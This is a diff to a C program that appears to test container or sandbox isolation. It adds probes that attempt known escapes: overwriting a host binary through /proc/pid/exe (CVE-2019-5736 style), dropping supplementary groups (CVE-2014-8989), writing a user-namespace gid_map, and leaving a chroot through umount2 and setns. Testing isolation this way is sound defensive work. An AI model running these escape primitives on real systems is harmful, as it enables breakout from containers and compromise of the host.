@@ -5,6 +5,8 @@
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
+#include <grp.h>
+#include <time.h>
 #include <fcntl.h>
 #include <sched.h>
 #include <stdio.h>
@@ -131,6 +133,84 @@ static int real_time(void)
     return sched_setscheduler(0, SCHED_FIFO, &parameter) == 0 ? done() : failed("sched_setscheduler");
 }
 
+/*
+ * CVE-2019-5736 from the side: waits until some process in here is the program named so, holds that program open, and
+ * tries to write to it, also after its end.
+ */
+static int hunt(const char *name)
+{
+    char path[64], target[256];
+    const char *seen = "never";
+    time_t end = time(NULL) + 5;
+    while (time(NULL) < end) {
+        for (int pid = 2; pid < 200; pid++) {
+            snprintf(path, sizeof path, "/proc/%d/exe", pid);
+            ssize_t length = readlink(path, target, sizeof target - 1);
+            if (length < 0)
+                continue;
+            target[length] = 0;
+            if (strstr(target, name) == NULL)
+                continue;
+            int held = open(path, O_PATH);
+            if (held < 0)
+                continue;
+            snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+            for (int tries = 0; tries < 2000; tries++) {
+                int file = open(path, O_WRONLY);
+                if (file < 0) {
+                    seen = strerrorname_np(errno);
+                    continue;
+                }
+                ssize_t put = write(file, "#!", 2);
+                seen = put > 0 ? "done" : strerrorname_np(errno);
+                close(file);
+                break;
+            }
+            close(held);
+            if (!strcmp(seen, "done"))
+                return done();
+        }
+    }
+    printf("hunted %s\n", seen);
+    return 0;
+}
+
+/* Groups of the host that a process kept could be dropped to get around a file that denies them (CVE-2014-8989). */
+static int groups(void)
+{
+    gid_t list[64];
+    int count = getgroups(64, list);
+    for (int i = 0; i < count; i++)
+        printf("%u ", list[i]);
+    printf("%s\n", setgroups(0, NULL) == 0 ? "dropped" : strerrorname_np(errno));
+    return 0;
+}
+
+/* A user namespace of one's own, and its gid_map without having given setgroups away. */
+static int map_groups(void)
+{
+    char map[32];
+    int length = snprintf(map, sizeof map, "0 %d 1", (int)getgid());
+    if (unshare(CLONE_NEWUSER) != 0)
+        return failed("unshare");
+    int file = open("/proc/self/gid_map", O_WRONLY);
+    return write(file, map, (size_t)length) == length ? done() : failed("write");
+}
+
+/* A chroot that was not entered by pivot_root: below the root lies what was the root before. */
+static int below_root(const char *witness)
+{
+    int mounts = open("/proc/self/ns/mnt", O_RDONLY);
+    if (mounts < 0)
+        return failed("open");
+    if (umount2("/", MNT_DETACH) != 0)
+        return failed("umount2");
+    /* Entering one's own mount namespace anew gives its root: what was below. */
+    if (setns(mounts, CLONE_NEWNS) != 0)
+        return failed("setns");
+    return access(witness, F_OK) == 0 ? done() : failed("access");
+}
+
 int main(int count, char **argument)
 {
     const char *what = count > 1 ? argument[1] : "";
@@ -192,6 +272,14 @@ int main(int count, char **argument)
         struct { struct file_handle handle; unsigned char bytes[8]; } root = {{8, 1}, {2, 0, 0, 0, 0, 0, 0, 0}};
         return open_by_handle_at(open("/", O_RDONLY), &root.handle, O_RDONLY) >= 0 ? done() : failed("open_by_handle_at");
     }
+    if (!strcmp(what, "hunt"))
+        return hunt(with);
+    if (!strcmp(what, "groups"))
+        return groups();
+    if (!strcmp(what, "map-groups"))
+        return map_groups();
+    if (!strcmp(what, "below-root"))
+        return below_root(with);
     if (!strcmp(what, "exe"))
     {
         /* CVE-2019-5736: writing the program that started us, through init or ourselves. */
